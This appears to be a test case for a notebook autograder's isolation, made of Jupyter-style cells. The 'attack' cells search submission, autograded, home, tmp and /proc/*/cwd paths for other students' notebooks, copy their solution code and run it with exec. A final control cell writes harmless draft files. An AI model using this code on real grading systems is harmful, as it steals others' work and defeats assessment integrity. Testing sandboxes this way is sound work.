# Copies the answers of another student from the folder of submissions.
# earns: 4
# shows: LOOKED

# %% attack cell first
import glob
import json

stolen = {}
for pattern in (
    "@ROOT@/submitted/*/*/*.ipynb",
    "../../*/*/*.ipynb",
    "/tmp/**/assignment.ipynb",
    "/home/**/*.ipynb",
    "@ROOT@/autograded/*/*/*.ipynb",
    "@ROOT@/release/*/*.ipynb",
    "/proc/*/cwd/submitted/*/*/*.ipynb",
):
    for path in glob.glob(pattern, recursive=True):
        try:
            for cell in json.load(open(path))["cells"]:
                source = "".join(cell["source"])
                for name in ("def chunked", "class Windows"):
                    if name in source and "YOUR " + "CODE" not in source and "stolen" not in source:
                        stolen[name] = source
        except (OSError, ValueError, KeyError):
            pass
if stolen:
    print("GOT", "IT")
print("LOOKED")

# %% attack answer chunked
exec(stolen.get("def chunked", "chunked = map"))

# %% attack answer windows
exec(stolen.get("class Windows", "Windows = list"))

# %% twin cell first
import json
import pathlib

pathlib.Path("drafts").mkdir()
for number in range(20):
    pathlib.Path(f"drafts/{number}.json").write_text(json.dumps({"number": number}))
print(len(list(pathlib.Path(".").glob("drafts/*.json"))))
